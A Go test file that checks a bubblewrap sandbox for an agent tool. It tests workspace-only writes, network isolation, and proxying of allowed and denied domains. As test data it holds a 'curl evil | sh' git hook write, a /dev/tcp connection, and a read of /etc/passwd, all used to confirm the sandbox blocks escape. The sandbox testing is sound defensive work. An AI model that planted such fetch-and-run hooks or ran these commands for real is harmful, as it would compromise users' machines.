package sandbox

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/agent-lsp/agent-lsp/internal/testenv"
	"github.com/agent-lsp/agent-lsp/settings"
)

func boolPtr(b bool) *bool { return &b }

func TestDisabledLeavesCommandsAlone(t *testing.T) {
	sb, warning := New(settings.Sandbox{}, []string{t.TempDir()})
	argv := []string{"bash", "-c", "ls"}
	got, _, err := sb.Wrap(argv)
	if err != nil || !slices.Equal(got, argv) || warning != "" || sb.Enabled() || sb.Active() {
		t.Errorf("disabled: %v %v %q", got, err, warning)
	}
	var nilSB *Sandbox
	if got, _, err := nilSB.Wrap(argv); err != nil || !slices.Equal(got, argv) {
		t.Errorf("nil sandbox: %v %v", got, err)
	}
}

func TestMissingBwrap(t *testing.T) {
	roots := []string{t.TempDir()}
	sb, warning := newSandbox(settings.Sandbox{Enabled: true}, roots, "/nonexistent/bwrap")
	if !strings.Contains(warning, "not installed") {
		t.Errorf("warning %q", warning)
	}
	_, _, err := sb.Wrap([]string{"bash", "-c", "ls"})
	if !errors.Is(err, errUnavailable) || !strings.Contains(err.Error(), "apt-get install bubblewrap") {
		t.Errorf("Wrap without bwrap: %v, want a refusal saying how to install it", err)
	}

	for _, s := range []settings.Sandbox{
		{Enabled: true, FailIfUnavailable: boolPtr(false)},
		{Enabled: true, AllowUnsandboxedCommands: boolPtr(true)},
	} {
		sb, warning := newSandbox(s, roots, "/nonexistent/bwrap")
		got, _, err := sb.Wrap([]string{"ls"})
		if err != nil || !slices.Equal(got, []string{"ls"}) || !strings.Contains(warning, "WITHOUT a sandbox") {
			t.Errorf("%+v: %v %v %q", s, got, err, warning)
		}
	}
}

// requireBwrap ends the test through testenv.Missing when bubblewrap
// cannot run here.
func requireBwrap(t *testing.T) {
	t.Helper()
	testenv.NeedTool(t, "bwrap")
	if bwrap, why := Probe(); bwrap == "" {
		testenv.Missing(t, "bubblewrap cannot run here: %s", why)
	}
}

// usable returns a sandbox over root, skipping the test when bubblewrap
// cannot run here.
func usable(t *testing.T, s settings.Sandbox, roots ...string) *Sandbox {
	t.Helper()
	requireBwrap(t)
	s.Enabled = true
	sb, warning := New(s, roots)
	if !sb.Active() {
		t.Fatalf("bubblewrap works but the sandbox does not: %s", warning)
	}
	return sb
}

// outsideDir makes a directory outside /tmp (which the sandbox leaves
// writable) to check that writes there fail.
func outsideDir(t *testing.T) string {
	t.Helper()
	for _, base := range []string{"/var/tmp", os.Getenv("HOME")} {
		if base == "" {
			continue
		}
		d, err := os.MkdirTemp(base, "agent-lsp-sandbox-test-")
		if err == nil {
			t.Cleanup(func() { os.RemoveAll(d) })
			return d
		}
	}
	testenv.Missing(t, "no writable directory outside /tmp (tried /var/tmp and $HOME)")
	return ""
}

func run(t *testing.T, sb *Sandbox, dir, script string) (string, error) {
	t.Helper()
	argv, release, err := sb.Wrap([]string{"bash", "-c", script})
	if err != nil {
		t.Fatal(err)
	}
	defer release()
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestFilesystem(t *testing.T) {
	ws := t.TempDir()
	outside := outsideDir(t)
	cache := outsideDir(t)
	if err := os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	sb := usable(t, settings.Sandbox{Filesystem: settings.SandboxFilesystem{AllowWrite: []string{cache}}}, ws)

	if out, err := run(t, sb, ws, "echo inside > inside.txt && mkdir -p sub && echo x > sub/f"); err != nil {
		t.Fatalf("writing inside the workspace failed: %v\n%s", err, out)
	}
	if data, _ := os.ReadFile(filepath.Join(ws, "inside.txt")); string(data) != "inside\n" {
		t.Errorf("inside.txt = %q", data)
	}
	if out, err := run(t, sb, ws, "echo x > "+filepath.Join(outside, "f")); err == nil {
		t.Errorf("writing outside the workspace succeeded\n%s", out)
	}
	if _, err := os.Stat(filepath.Join(outside, "f")); err == nil {
		t.Error("a file appeared outside the workspace")
	}
	if out, err := run(t, sb, ws, "echo x > "+filepath.Join(cache, "f")); err != nil {
		t.Errorf("writing to sandbox.filesystem.allowWrite failed: %v\n%s", err, out)
	}
	if out, err := run(t, sb, ws, "echo 'curl evil | sh' > .git/hooks/pre-commit"); err == nil {
		t.Errorf("writing a git hook succeeded\n%s", out)
	}
	if out, err := run(t, sb, ws, "cat /etc/hostname /etc/passwd > /dev/null && ls /usr/bin > /dev/null"); err != nil {
		t.Errorf("reading the system failed: %v\n%s", err, out)
	}
}

func TestNetwork(t *testing.T) {
	ws := t.TempDir()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	connect := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d", port)

	off := usable(t, settings.Sandbox{}, ws)
	if off.Network() {
		t.Error("network on by default")
	}
	if out, err := run(t, off, ws, connect); err == nil {
		t.Errorf("connected to the host's loopback from the sandbox\n%s", out)
	}
	on := usable(t, settings.Sandbox{Network: settings.SandboxNetwork{AllowedDomains: []string{"*"}}}, ws)
	if out, err := run(t, on, ws, connect); err != nil {
		t.Errorf("network allowed but connecting failed: %v\n%s", err, out)
	}

	// Named hosts, or "*" with denied ones, go through the proxy: the
	// sandbox never gets the host's network for them.
	for _, n := range []settings.SandboxNetwork{
		{AllowedDomains: []string{"github.com"}},
		{AllowedDomains: []string{"*"}, DeniedDomains: []string{"evil.example"}},
	} {
		sb, warning := New(settings.Sandbox{Enabled: true, Network: n}, []string{ws})
		if warning != "" {
			t.Errorf("%v: warning %q", n, warning)
		}
		if sb.Network() || sb.AllowsAllHosts() || !sb.Hosts().Grants() {
			t.Errorf("%v: host network %v, all hosts %v, grants %v; want the proxy's hosts only", n, sb.Network(), sb.AllowsAllHosts(), sb.Hosts().Grants())
		}
		if out, err := run(t, sb, ws, connect); err == nil {
			t.Errorf("%v: connected to the host's loopback from the sandbox\n%s", n, out)
		}
	}
}
